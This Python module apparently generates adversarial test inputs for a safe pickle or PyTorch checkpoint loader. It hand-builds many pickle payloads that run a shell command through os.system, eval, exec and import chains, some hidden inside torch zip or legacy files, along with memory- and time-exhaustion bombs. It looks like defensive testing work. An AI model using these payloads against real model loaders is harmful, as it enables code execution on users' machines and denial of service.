"""Files that would run a program, or take all memory or time, in a reader that trusts them; each is small."""

import io
import pickle
import struct
import zipfile
from collections.abc import Iterator

import numpy as np
import torch

# Claims of a terabyte and more: nothing that a machine has by chance.
HUGE = 10**12


def calls(command: str) -> Iterator[tuple[str, bytes]]:
    """Pickles that call something, each by another way.

    Args:
        command: What a shell would run, without a quote in it.
    """
    text = command.encode()
    argument = b"\x8c" + bytes([len(text)]) + text
    python = f"__import__('os').system('{command}')".encode()
    source = b"\x8c" + bytes([len(python)]) + python
    call = b"cos\nsystem\n" + argument + b"\x85R"
    yield "reduce", b"\x80\x04" + call + b"."
    yield "reduce of text protocol", b"cposix\nsystem\n(S'" + text + b"'\ntR."
    yield "stack global", b"\x80\x04\x8c\x02os\x8c\x06system\x93" + argument + b"\x85R."
    yield "dotted name", b"\x80\x04\x8c\x00\x8c\x09os.system\x93" + argument + b"\x85R."
    yield "subclasses", b"\x80\x04\x8c\x08builtins\x8c\x15object.__subclasses__\x93)R."
    yield "name of many lines", b"\x80\x04\x8c\x05os\nxx\x8c\x08sys\x1b[2Jm\x93" + argument + b"\x85R."
    yield "surrogate in a name", b"\x80\x04\x8c\x05o\xed\xa0\x80s\x8c\x06system\x93" + argument + b"\x85R."
    yield "eval", b"\x80\x04cbuiltins\neval\n" + source + b"\x85R."
    yield "exec by INST", b"(S'import os; os.system(\"" + text + b"\")'\nibuiltins\nexec\n."
    yield "system by OBJ", b"(cos\nsystem\nS'" + text + b"'\no."
    yield "system by NEWOBJ", b"\x80\x04cos\nsystem\n" + argument + b"\x85\x81."
    yield "system by NEWOBJ_EX", b"\x80\x04cos\nsystem\n)}\x8c\x07command" + argument + b"s\x92."
    chain = b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR"
    yield "getattr chain", chain + b"(S'" + text + b"'\ntR."
    yield "nested reduce", b"\x80\x04cbuiltins\nlist\n" + b"(" + call + b"l\x85R."
    yield "call of a call", b"\x80\x04cfunctools\npartial\ncos\nsystem\n\x85R" + argument + b"\x85R."
    yield "map", b"\x80\x04cbuiltins\nlist\ncbuiltins\nmap\ncos\nsystem\n" + argument + b"\x85\x86R\x85R."
    yield "dictionary of a map", b"\x80\x04ccollections\nOrderedDict\ncbuiltins\nmap\ncos\nsystem\n" + argument + b"\x85\x86R\x85R."
    yield "class of a tensor", (
        b"\x80\x04ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\nctorch\nTensor\n" + argument + b"\x85}tR."
    )
    yield "newobj by name", b"\x80\x04ccopyreg\n__newobj__\ncos\nsystem\n" + argument + b"\x86R."
    yield "reconstructor", b"\x80\x04ccopyreg\n_reconstructor\ncos\nsystem\ncbuiltins\nstr\n" + argument + b"\x87R."
    yield "state of a list", b"\x80\x04]}\x8c\x06append" + call + b"sb."
    yield "state of a class", b"\x80\x04ccollections\nOrderedDict\n}\x8c\x08__init__cos\nsystem\nsb."
    yield "item of a class", b"\x80\x04ccollections\nOrderedDict\n\x8c\x01xcos\nsystem\ns."
    yield "state of a record", b"\x80\x04cx\nY\n)\x81}(\x8c\x0c__setstate__cos\nsystem\n\x8c\x07restorecos\nsystem\nub" + argument + b"b."
    yield "persistent id", b"\x80\x04(cos\nsystem\n" + argument + b"tQ."
    yield "extension", b"\x80\x04\x82\x01" + argument + b"\x85R."
    yield "buffer", b"\x80\x05\x97\x98."
    inner = b"\x80\x04" + call + b"."
    for name in (b"torch.storage\n_load_from_bytes", b"pickle\nloads", b"_pickle\nloads", b"marshal\nloads", b"torch\nload"):
        yield f"nested in {name!r}", b"\x80\x04c" + name + b"\nC" + bytes([len(inner)]) + inner + b"\x85R."
    yield "codecs", b"\x80\x04c_codecs\nencode\n" + argument + b"\x8c\x03zip\x86R."
    yield "zip of torch", torch_zip(b"\x80\x04" + call + b".")
    storage = b"(X\x07\x00\x00\x00storagecos\nsystem\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x01tQ"
    yield "storage type in a zip", torch_zip(b"\x80\x02" + storage + b".")
    yield "older torch file", legacy(b"\x80\x02" + call + b".")


def claims() -> Iterator[tuple[str, bytes]]:
    """Files that ask for more memory or time than a file of their size needs."""
    yield "BINBYTES8", b"\x80\x04\x8e" + struct.pack("<Q", HUGE) + b"x."
    yield "BINUNICODE8", b"\x80\x04\x8d" + struct.pack("<Q", HUGE) + b"x."
    yield "BYTEARRAY8", b"\x80\x05\x96" + struct.pack("<Q", HUGE) + b"x."
    yield "LONG4", b"\x8b" + struct.pack("<i", 2**31 - 1) + b"\x01."
    yield "negative LONG4", b"\x8b" + struct.pack("<i", -1) + b"\x01."
    yield "long text number", b"L" + b"9" * 200_000 + b"L\n."
    yield "frame", b"\x80\x04\x95" + struct.pack("<Q", HUGE) + b"N."
    yield "memo", b"\x80\x04Nr" + struct.pack("<I", 2**32 - 1) + b"."
    number = b"\x8a\x06" + HUGE.to_bytes(6, "little")
    for name in ("bytearray", "bytes", "list", "tuple", "range", "complex", "frozenset"):
        yield f"{name} of a number", f"\x80\x04cbuiltins\n{name}\n".encode("latin1") + number + b"\x85R."
    yield "list of a range", b"\x80\x04cbuiltins\nlist\ncbuiltins\nrange\n" + number + b"\x85R\x85R."
    yield "torch.Size", b"\x80\x04ctorch\nSize\n" + number + b"\x85R."
    for code in ("f4", "S0", "V0", "V8", "U1", "O"):
        yield f"array of {code}", array(code, (HUGE, HUGE), b"")
    yield "array without elements of a huge size", array("f4", (0, HUGE, HUGE), b"")
    yield "array of many axes", array("f4", (1,) * 5000, b"\0" * 4)
    yield "scalar", b"\x80\x04cnumpy._core.multiarray\nscalar\ncnumpy\ndtype\nX\x07\x00\x00\x00U999999\x85RC\x01x\x86R."
    yield "type of a huge size", b"\x80\x04cnumpy\ndtype\nX\x0b\x00\x00\x00U9999999999\x85R."
    yield "type with a program", b"\x80\x04cnumpy\ndtype\nX\x0e\x00\x00\x00(9999999999,)f\x85R."
    for numbers, size, stride in ((HUGE, HUGE, 1), (4, HUGE, 0), (4, HUGE, 1), (4, 2**63, 1), (4, -1, 1), (-4, 1, 1)):
        program = tensor_program(numbers, (size,), (stride,))
        yield f"zip with a tensor of {numbers}, {size}, {stride}", torch_zip(program, b"\0" * 16)
        yield f"older file with a tensor of {numbers}, {size}, {stride}", legacy(program, numbers)
    yield "zip with empty tensors", torch_zip(tensor_program(4, (0, HUGE, HUGE), (1, 1, 1)), b"\0" * 16)
    yield "many expanded tensors", torch_zip(tensor_program(4, (10**7,), (0,), repeat=3000), b"\0" * 16)
    yield "compressed pickle", torch_zip(b"\x80\x04]" + b"]a" * 400_000 + b".", compression=zipfile.ZIP_DEFLATED)
    yield "compressed storage", torch_zip(tensor_program(2**22, (4,), (1,)), b"\0" * 2**24, zipfile.ZIP_DEFLATED)
    yield "overlapping storages", overlapping(2000, 2**18)
    yield "stored size beyond the archive", torch_zip(tensor_program(4, (4,), (1,)), b"\0" * 16).replace(
        struct.pack("<II", 16, 16), struct.pack("<II", 2**32 - 2, 2**32 - 2)
    )
    long_list = b"\x80\x04(" + b"N" * 50_000 + b"lq\x000"
    yield "copies of a list", long_list + b"(" + b"cbuiltins\nlist\nh\x00\x85R" * 4000 + b"l."
    yield "copies of a set", long_list + b"(" + b"cbuiltins\ntuple\nh\x00\x85R" * 4000 + b"l."
    long_text = b"\x80\x04X" + struct.pack("<I", 2**18) + b"a" * 2**18 + b"q\x000"
    yield "copies of text", long_text + b"(" + b"c_codecs\nencode\nh\x00X\x06\x00\x00\x00latin1\x86R" * 4000 + b"l."
    long_dict = b"\x80\x04}(" + b"".join(b"J" + struct.pack("<i", n) + b"N" for n in range(30_000)) + b"uq\x000"
    yield "copies of a state", long_dict + b"(" + b"cx\nY\n)\x81h\x00b" * 4000 + b"l."
    yield "copies of named arguments", long_dict + b"(" + b"cx\nY\n)h\x00\x92" * 4000 + b"l."
    yield "copies of a nested file", nested_copies()
    yield "files within files", nested_deeply(200)
    laughs = b"\x80\x04Nq\x00" + b"h\x00h\x00\x86q\x00" * 60
    yield "nested tuples", laughs + b"."
    yield "nested tuples as key", b"\x80\x04}q\x01" + laughs[2:] + b"0h\x01h\x00Ns."
    yield "nested tuples in a set", laughs + b"(h\x00\x91."
    yield "nested tuples in a set by call", laughs + b"cbuiltins\nset\n(h\x00l\x85R."
    endless = b"\x80\x04]q\x00" + b"(h\x00h\x00lq\x00" * 60
    yield "endless text as type", endless + b"cnumpy\ndtype\nh\x00\x85R."
    yield "endless text as storage type", torch_zip(endless + b"(X\x07\x00\x00\x00storageh\x00X\x01\x00\x00\x000NK\x01tQ.")
    yield "endless text as function", endless + b"h\x00)R."
    yield "endless text as module", endless + b"h\x00h\x00\x93."
    yield "endless text as state", endless + b"cnumpy\ndtype\nX\x02\x00\x00\x00f4\x85Rh\x00b."
    deep = b"\x80\x04N" + b"\x85" * 400_000
    yield "deep tuple", deep + b"."
    yield "deep tuple as key", b"\x80\x04}N" + b"\x85" * 400_000 + b"Ns."
    yield "deep lists", b"\x80\x04" + b"]" * 300_000 + b"a" * 299_999 + b"."
    yield "deep records", b"\x80\x04cx\nY\nq\x000N" + b"\x85q\x010h\x00h\x01R" * 100_000 + b"."
    yield "list in itself", b"\x80\x04]q\x00h\x00a."
    yield "keys of one hash", b"\x80\x04}(" + b"".join(collision(n) for n in range(60_000)) + b"u."
    yield "sets", b"\x80\x04" + b"\x8f" * 3_000_000 + b"."
    yield "marks", b"\x80\x04" + b"(" * 3_000_000 + b"."
    yield "pops", b"\x80\x04" + b"N0" * 2_000_000 + b"N."
    yield "underflow", b"\x80\x040000."
    yield "tuple of more than there is", b"\x80\x04\x87."


def modules_in_modules() -> Iterator[tuple[str, bytes]]:
    """Pickles of networks that hold a module in more places than could be listed."""
    empty = b"\x8c\x0b_parameters}u"
    yield "a module in itself", b"\x80\x04}\x8c\x05G_emacx\nY\n)\x81q\x00}(\x8c\x08_modules}\x8c\x01ah\x00s" + empty + b"bs."
    endless = b"]q\x010" + b"(h\x01h\x01lq\x010" * 60
    network = b"}\x8c\x05G_emacx\nY\n)\x81}(\x8c\x08_modules}\x8c\x05c_dimh\x01" + empty + b"bs."
    yield "endless text as c_dim", b"\x80\x04" + endless + network
    level = b"cx\nY\n)\x81}(\x8c\x08_modules}(\x8c\x01ah\x00\x8c\x01bh\x00u" + empty + b"bq\x000"
    leaf = b"cx\nY\n)\x81}(\x8c\x08_modules}" + empty + b"bq\x000"
    yield "a module in 2^60 places", b"\x80\x04" + leaf + level * 60 + b"}\x8c\x05G_emah\x00s."
    nested = b"cx\nY\n)\x81}(\x8c\x08_modules}\x8c\x01ah\x00s" + empty + b"bq\x000"
    children = b"".join(b"\x8c\x04%04dh\x00" % number for number in range(9_000))
    mid = b"cx\nY\n)\x81}(\x8c\x08_modules}(" + children + b"u" + empty + b"bq\x000"
    long_name = b"X" + struct.pack("<I", 500_000) + b"a" * 500_000
    root = b"cx\nY\n)\x81}(\x8c\x08_modules}" + long_name + b"h\x00s" + empty + b"bq\x000"
    yield "long names of many modules", b"\x80\x04" + leaf + mid + root + b"}\x8c\x05G_emah\x00s."
    yield "modules nested without end", b"\x80\x04" + leaf + nested * 2_000 + b"}\x8c\x05G_emah\x00s."


def torch_zip(program: bytes, storage: bytes = b"", compression: int = zipfile.ZIP_STORED) -> bytes:
    """A zip archive as torch.save lays it out, around any pickle."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", compression) as archive:
        archive.writestr("x/data.pkl", program)
        archive.writestr("x/byteorder", b"little")
        archive.writestr("x/data/0", storage)
        archive.writestr("x/version", b"3\n")
    return content.getvalue()


def legacy(program: bytes, numbers: int = 1) -> bytes:
    """A file of the older layout around any pickle that refers to one storage."""
    parts = [pickle.dumps(0x1950A86A20F9469CFC6C, 2), pickle.dumps(1001, 2), pickle.dumps({"little_endian": True}, 2)]
    program = program.replace(b"tQ", b"NtQ")
    return b"".join(parts) + program + pickle.dumps(["0"], 2) + struct.pack("<q", numbers) + b"\0" * 16


def integer(number: int) -> bytes:
    """The opcode of an integer of any size."""
    content = number.to_bytes(number.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(content)]) + content


def tensor_program(numbers: int, size: tuple[int, ...], stride: tuple[int, ...], repeat: int = 1) -> bytes:
    """A pickle of tensors on one storage that is said to hold so many float32 numbers."""
    storage = b"(X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpu" + integer(numbers) + b"tQ"
    sizes = b"".join(integer(n) for n in size)
    strides = b"".join(integer(n) for n in stride)
    tensor = b"ctorch._utils\n_rebuild_tensor_v2\n(h\x00K\x00(" + sizes + b"t(" + strides + b"t\x89}tR"
    return b"\x80\x02" + storage + b"q\x000(" + tensor * repeat + b"l."


def array(code: str, shape: tuple[int, ...], data: bytes) -> bytes:
    """A pickle of a NumPy array that claims a type and a shape."""
    kind = b"cnumpy\ndtype\nX" + struct.pack("<I", len(code)) + code.encode() + b"\x89\x88\x87R"
    sizes = b"(" + b"".join(integer(n) for n in shape) + b"t"
    made = b"cnumpy._core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\x00\x85C\x01b\x87R"
    return b"\x80\x04" + made + b"(K\x01" + sizes + kind + b"\x89C" + bytes([len(data)]) + data + b"tb."


def overlapping(names: int, size: int) -> bytes:
    """A zip archive whose many storages are the same bytes."""
    storage = b"(X\x07\x00\x00\x00storagectorch\nByteStorage\nX\x04\x00\x00\x00%sX\x03\x00\x00\x00cpu" + integer(size) + b"tQ"
    program = b"\x80\x02(" + b"".join(storage % b"%04d" % n for n in range(names)) + b"l."
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("x/data.pkl", program)
        archive.writestr("x/data/0000", b"\0" * size)
        first = archive.getinfo("x/data/0000")
        for n in range(1, names):
            entry = zipfile.ZipInfo(f"x/data/{n:04d}")
            entry.header_offset, entry.CRC, entry.file_size, entry.compress_size = first.header_offset, first.CRC, size, size
            archive.filelist.append(entry)
            archive.NameToInfo[entry.filename] = entry
    return content.getvalue()


def nested_copies() -> bytes:
    """A pickle that reads the same nested file again and again."""
    inner = io.BytesIO()
    torch.save(torch.zeros(2**16).untyped_storage(), inner, _use_new_zipfile_serialization=False)
    content = inner.getvalue()
    call = b"ctorch.storage\n_load_from_bytes\nh\x00\x85R"
    return b"\x80\x04B" + struct.pack("<I", len(content)) + content + b"q\x000(" + call * 4000 + b"l."


def nested_deeply(levels: int) -> bytes:
    """A file that holds a file that holds a file."""
    content = b"\x80\x04N."
    for _ in range(levels):
        size = struct.pack("<I", len(content))
        content = b"\x80\x04ctorch.storage\n_load_from_bytes\nB" + size + content + b"\x85R."
    return content


def collision(number: int) -> bytes:
    """An entry of a dictionary whose key has the hash 1 for every number."""
    return integer(1 + number * (2**61 - 1)) + b"N"


def plain_array() -> bytes:
    """An ordinary pickle of a megabyte, to compare with."""
    return pickle.dumps({"a": np.zeros(2**17), "b": list(range(10_000))})
